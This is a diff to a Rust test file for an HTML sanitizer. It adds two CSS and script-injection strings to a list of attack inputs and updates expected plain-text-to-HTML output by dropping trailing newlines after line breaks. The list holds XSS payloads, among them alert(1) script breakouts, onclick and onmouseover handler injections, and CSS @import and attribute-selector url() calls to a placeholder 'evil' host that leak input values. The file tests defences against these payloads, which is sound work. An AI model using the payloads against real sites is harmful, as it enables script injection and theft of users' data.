@@ -250,6 +250,8 @@ const ATTACKS: &[&str] = &[
     "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">",
     "<p style=\"color:red;}@import url(https://evil);{\">",
     "<p style='font-family:\"</p><script>alert(1)</script>\"'>",
+    "<style>p{color:red;font-family:'&quot;</p><script>alert(1)</script>'}</style><p>x",
+    "<style>p{background-color:url(https://evil);position:fixed}*{color:red}</style><p class='a\" onclick=x'>x",
     "<style>@import url(https://evil);input[value^=a]{background:url(https://evil/a)}</style>",
     "<style><!--</style><script>alert(1)</script>--></style>",
     "<xmp><p title=\"</xmp><svg/onload=alert(1)>\"></xmp>",
@@ -403,14 +405,14 @@ fn plain_text_becomes_harmless_html() {
     };
     text_check(
         "a < b & c > \"d\" 'e'",
-        "a &lt; b &amp; c &gt; &quot;d&quot; &#39;e&#39;<br>\n",
+        "a &lt; b &amp; c &gt; &quot;d&quot; &#39;e&#39;<br>",
     );
     text_check(
         "> a\n>> b\nc",
-        "<blockquote>a<br>\n<blockquote>b<br>\n</blockquote></blockquote>c<br>\n",
+        "<blockquote>a<br><blockquote>b<br></blockquote></blockquote>c<br>",
     );
     let link = "<a href=\"https://x.vn/a?b=1&amp;c=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">https://x.vn/a?b=1&amp;c=2</a>";
-    text_check("(https://x.vn/a?b=1&c=2).", &format!("({link}).<br>\n"));
+    text_check("(https://x.vn/a?b=1&c=2).", &format!("({link}).<br>"));
     for attack in [
         "https://x.vn/\"onmouseover=alert(1)",
         "https://x.vn/'><script>alert(1)</script>",
